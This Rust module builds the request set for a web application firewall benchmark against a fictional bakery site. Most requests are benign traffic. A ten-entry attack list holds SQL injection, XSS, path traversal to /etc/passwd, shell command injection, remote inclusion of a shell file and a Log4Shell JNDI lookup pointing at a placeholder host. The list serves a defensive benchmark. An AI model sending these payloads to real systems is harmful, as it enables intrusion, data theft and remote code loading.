//! Requests for the bench of the firewall. All data is made up.
//!
//! Peers in other languages read them from a file; `bench/peers/modsecurity/bench.c` says how it is built up.

use std::fmt::Write as _;
use std::io::{self, Read as _, Write};
use std::path::PathBuf;

use crate::ContactsCsv;

/// A request as it is handed to a firewall.
pub struct Request {
    /// `GET`, `POST`.
    pub method: &'static str,
    /// Path and query.
    pub target: String,
    /// `HTTP/1.1`.
    pub version: &'static str,
    /// In their order.
    pub headers: Vec<(String, String)>,
    /// Empty for a GET.
    pub body: Vec<u8>,
}

/// Requests that are measured together; the figure is their mean.
pub struct Kind {
    /// What they are and how large.
    pub name: String,
    /// At least one.
    pub requests: Vec<Request>,
    /// Whether the rules must block them; otherwise they must pass.
    pub are_attacks: bool,
}

/// Everything that is measured.
pub fn kinds() -> Vec<Kind> {
    let small = vec![
        get("/", ""),
        get("/roggenbrot?sort=preis&seite=2", "https://brot.example/"),
        get("/suche?q=sauerteig+rezept&filter=vollkorn", "https://brot.example/roggenbrot"),
        get("/rezepte/dinkel-kruste?utm_source=brief&utm_campaign=herbst", "https://mail.brot.example/"),
    ];
    let attacks: Vec<Request> = ATTACKS.map(|query| get(&format!("/suche?{query}"), "https://brot.example/")).into();
    let size = |request: &Request| request.body.len() as f64 / 1000.0;
    let head = |requests: &[Request]| requests.iter().map(head_length).sum::<usize>() as f64 / requests.len() as f64;
    let (form, many, one, parts) = (form(), json_of_many(), json_of_one(), multipart());
    let name = |request: &Request, what: &str| what.replace("SIZE", &format!("{:.1} KB", size(request)));
    let passes = |name: String, requests| Kind { name, requests, are_attacks: false };
    vec![
        passes(format!("small GET, 16 headers, 6 cookies, {:.1} KB", head(&small) / 1000.0), small),
        passes(name(&form, "form, 20 fields, SIZE"), vec![form]),
        passes(name(&many, "JSON of 812 values, SIZE"), vec![many]),
        passes(name(&one, "JSON of one string, SIZE"), vec![one]),
        passes(name(&parts, "multipart with a file, SIZE"), vec![parts]),
        Kind {
            name: format!("attacks, 10 GETs, {:.1} KB", head(&attacks) / 1000.0),
            requests: attacks,
            are_attacks: true,
        },
    ]
}

/// One of each class that the rule set knows.
const ATTACKS: [&str; 10] = [
    "q=brot'+UNION+SELECT+name,passwort+FROM+kunden--+",
    "q=1'+OR+'1'='1",
    "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "q=%3Cimg+src=x+onerror=alert(1)%3E",
    "datei=../../../../etc/passwd",
    "ziel=brot.example;cat+/etc/passwd",
    "seite=http://203.0.113.9/shell.txt?",
    "q=$%7Bjndi:ldap://203.0.113.9/a%7D",
    "datei=php://filter/convert.base64-encode/resource=index.php",
    "q=1;WAITFOR+DELAY+'0:0:5'--",
];

fn get(target: &str, referer: &str) -> Request {
    let referer = if referer.is_empty() { "https://suche.example/" } else { referer };
    let mut headers = browser();
    headers.push(("Referer".into(), referer.into()));
    headers.push(("Upgrade-Insecure-Requests".into(), "1".into()));
    Request { method: "GET", target: target.into(), version: "HTTP/1.1", headers, body: Vec::new() }
}

fn post(target: &str, content_type: &str, body: Vec<u8>) -> Request {
    let mut headers = browser();
    headers.push(("Content-Type".into(), content_type.into()));
    headers.push(("Content-Length".into(), body.len().to_string()));
    Request { method: "POST", target: target.into(), version: "HTTP/1.1", headers, body }
}

/// Fourteen headers; with the two that each kind of request adds, a browser's sixteen.
fn browser() -> Vec<(String, String)> {
    let cookies = "sitzung=018f4c2a7b3e7d10a9c35e8b2f6d4071; sprache=de; warenkorb=brot-1911.2_kruste-7.1; \
                   hinweis=gelesen; ansicht=raster; besuch=1795420800";
    let headers = [
        ("Host", "brot.example"),
        ("Connection", "keep-alive"),
        ("Cache-Control", "max-age=0"),
        ("Sec-CH-UA", "\"Chromium\";v=\"140\", \"Not=A?Brand\";v=\"24\""),
        ("Sec-CH-UA-Mobile", "?0"),
        ("Sec-CH-UA-Platform", "\"Linux\""),
        (
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36",
        ),
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
        ("Sec-Fetch-Site", "same-origin"),
        ("Sec-Fetch-Mode", "navigate"),
        ("Sec-Fetch-Dest", "document"),
        ("Accept-Encoding", "gzip, deflate, br, zstd"),
        ("Accept-Language", "de-DE,de;q=0.9,en;q=0.7"),
        ("Cookie", cookies),
    ];
    headers.map(|(name, value)| (name.to_owned(), value.to_owned())).into()
}

fn head_length(request: &Request) -> usize {
    let line = request.method.len() + request.target.len() + request.version.len() + 4;
    line + request.headers.iter().map(|(name, value)| name.len() + value.len() + 4).sum::<usize>() + 2
}

fn form() -> Request {
    let note =
        "Bitte+liefern+Sie+am+Samstag+vor+acht+Uhr+an+den+Hintereingang%2C+der+Laden+ist+dann+noch+zu.+".repeat(14);
    let fields = [
        ("vorname", "Anna"),
        ("nachname", "Schmidt-M%C3%B6ller"),
        ("email", "anna.schmidt%40beispiel.example"),
        ("firma", "Buchhandlung+Lindenhof"),
        ("telefon", "%2B49+30+5550+0123"),
        ("strasse", "Lindenstra%C3%9Fe+12"),
        ("plz", "10969"),
        ("ort", "Berlin"),
        ("land", "DE"),
        ("geburtstag", "1984-07-14"),
        ("kundennummer", "204711"),
        ("anrede", "Frau"),
        ("sprache", "de"),
        ("liste", "018f4c2a-7b3e-7d10-a9c3-5e8b2f6d4071"),
        ("einwilligung", "ja"),
        ("quelle", "Anmeldung+auf+der+Webseite"),
        ("lieblingsbrot", "Roggen%2C+Dinkel%2C+Walnuss"),
        ("menge", "3"),
        ("csrf", "q7hZk2mN0pXvR4tYwB8sLdE1uJgF6cAi9oTbVnKxMyQ"),
        ("notiz", &note),
    ];
    let body = fields.map(|(name, value)| format!("{name}={value}")).join("&");
    post("/bestellung", "application/x-www-form-urlencoded", body.into_bytes())
}

fn json_of_many() -> Request {
    let mut body = String::from("{\"contacts\":[");
    for number in 0..116 {
        let comma = if number == 0 { "" } else { "," };
        let _ = write!(
            body,
            "{comma}{{\"email\":\"person{number}@kunde{}.beispiel.example\",\"vorname\":\"Anna\",\"nachname\":\"Schmidt-M{number}\",\
             \"ort\":\"Berlin\",\"strasse\":\"Alte Lindenstrasse {}\",\"plz\":\"10{:03}\",\"kundennummer\":{}}}",
            number % 17,
            number % 60 + 1,
            number * 7 % 1000,
            204_711 + number,
        );
    }
    body.push_str("]}");
    post("/api/contacts", "application/json", body.into_bytes())
}

fn json_of_one() -> Request {
    let mut text = String::new();
    for day in 1.. {
        if text.len() >= 20_000 {
            break;
        }
        let _ = write!(
            text,
            "Am {day}. Tag ruht der Teig zwei Stunden in der Stube, danach wird er gefaltet und in den Korb gelegt. \
             Wer mag, gibt {} Gramm Walnüsse dazu; das Brot bleibt dann länger frisch. ",
            20 + day % 9 * 5,
        );
    }
    post("/api/notes", "application/json", format!("{{\"text\":\"{}\"}}", text.trim_end()).into_bytes())
}

fn multipart() -> Request {
    let mut file = vec![0; 200_000];
    ContactsCsv::new(10_000).read_exact(&mut file).expect("so many rows are longer than the file");
    // The last row is whole.
    file.truncate(file.iter().rposition(|byte| *byte == b'\n').map_or(0, |end| end + 1));
    let boundary = "----Formular7f3a91c2d4e85b60";
    let field = |name: &str, value: &str| {
        format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
    };
    let mut body = field("liste", "Kunden") + &field("trennzeichen", "Komma");
    let _ = write!(
        body,
        "--{boundary}\r\nContent-Disposition: form-data; name=\"datei\"; filename=\"kunden.csv\"\r\n\
         Content-Type: text/csv\r\n\r\n"
    );
    let body = [body.as_bytes(), &file, format!("\r\n--{boundary}--\r\n").as_bytes()].concat();
    post("/import", &format!("multipart/form-data; boundary={boundary}"), body)
}

/// Writes rule files and requests for a peer.
///
/// # Errors
/// What `out` says.
pub fn write(out: &mut impl Write, rules: &[PathBuf], kinds: &[Kind]) -> io::Result<()> {
    number(out, rules.len())?;
    for path in rules {
        text(out, path.as_os_str().as_encoded_bytes())?;
    }
    number(out, kinds.len())?;
    for kind in kinds {
        text(out, kind.name.as_bytes())?;
        number(out, kind.requests.len())?;
        for request in &kind.requests {
            for word in [request.method, &request.target, request.version] {
                text(out, word.as_bytes())?;
            }
            number(out, request.headers.len())?;
            for (name, value) in &request.headers {
                text(out, name.as_bytes())?;
                text(out, value.as_bytes())?;
            }
            text(out, &request.body)?;
        }
    }
    Ok(())
}

fn number(out: &mut impl Write, number: usize) -> io::Result<()> {
    out.write_all(&u32::try_from(number).map_err(io::Error::other)?.to_le_bytes())
}

fn text(out: &mut impl Write, bytes: &[u8]) -> io::Result<()> {
    number(out, bytes.len())?;
    out.write_all(bytes)
}
